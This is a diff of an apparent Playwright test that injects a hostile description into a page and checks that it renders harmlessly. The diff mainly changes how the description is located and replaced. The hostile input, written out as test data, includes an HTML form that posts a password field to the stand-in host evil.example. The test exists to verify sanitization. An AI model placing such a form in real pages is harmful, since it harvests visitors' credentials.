@@ -14,6 +14,8 @@ const HOSTILE = [
   '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
 ].join('');
 
+const DESCRIPTION = 'Hybrid deals, honest caps, and a public changelog of every term.';
+
 /** Errors of the page's policy while parsing, and of the socket, which Chromium refuses to a page that it did not load itself. */
 const REFUSED = /inline event handler|inline style|ERR_BLOCKED_BY_LOCAL_NETWORK_ACCESS_CHECKS/;
 
@@ -22,8 +24,10 @@ test('NM-11 shows a hostile description as harmless text, emphasis and links', a
     const answer = await route.fetch();
     const html = await answer.text();
     const escaped = JSON.stringify(HOSTILE).slice(1, -1).replaceAll('<', '\\u003c');
-    const body = html.replace('Hybrid deals, honest caps, and a public changelog of every term.', () => escaped);
-    expect(body).not.toBe(html);
+    // Its last place is the page's data; before it stands the page for browsers without scripts.
+    const at = html.lastIndexOf(DESCRIPTION);
+    expect(at).toBeGreaterThan(0);
+    const body = html.slice(0, at) + escaped + html.slice(at + DESCRIPTION.length);
     await route.fulfill({ response: answer, body });
   });
   await page.goto('/');
